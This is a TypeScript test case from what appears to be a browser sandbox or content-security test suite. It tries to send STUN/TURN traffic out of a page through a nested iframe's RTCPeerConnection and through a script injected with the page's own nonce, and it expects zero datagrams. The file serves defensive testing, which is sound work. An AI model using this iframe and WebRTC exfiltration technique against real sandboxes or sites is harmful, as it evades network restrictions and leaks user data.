import type { Attack } from '../attack.ts';
import { ownNonce } from '../own-nonce.ts';

export const attack: Attack = {
  id: '121',
  group: 'exfiltration',
  atOrigin: {
    because: 'a nested document shares the site’s origin and is reached directly',
    expected: '0 datagrams, even if its process dies of it',
    async guest({ udpPort, evil, pause }) {
      const child = document.createElement('iframe');
      child.srcdoc = '<p>x';
      document.body.append(child);
      await pause(200);
      const realm = child.contentWindow as (Window & typeof globalThis) | null;
      if (!realm) return 'no realm';
      const iceServers = [
        { urls: `stun:127.0.0.1:${udpPort}` },
        { urls: `turn:127.0.0.1:${new URL(evil).port}?transport=tcp`, username: 'secret', credential: 'secret' },
      ];
      const peer = new realm.RTCPeerConnection({ iceServers });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await pause(1_500);
      return null;
    },
  },
  title: 'reach a STUN server from a nested document and a data channel, with candidates in the description',
  expected: '0 datagrams, even if its process dies of it',
  heardOnAnOrdinaryPage: true,
  async guest({ udpPort, evil, pause }) {
    const tcpPort = new URL(evil).port;
    const code = `
      const peer = new RTCPeerConnection({ iceServers: [
        { urls: 'stun:127.0.0.1:${udpPort}' },
        { urls: 'turn:127.0.0.1:${tcpPort}?transport=tcp', username: 'secret', credential: 'secret' } ] });
      peer.createDataChannel('x');
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
    const child = document.createElement('iframe');
    child.srcdoc = `<script nonce="${ownNonce()}">${code}</script>`;
    document.body.append(child);
    await pause(1_500);
    return null;
  },
  judge: () => undefined,
};
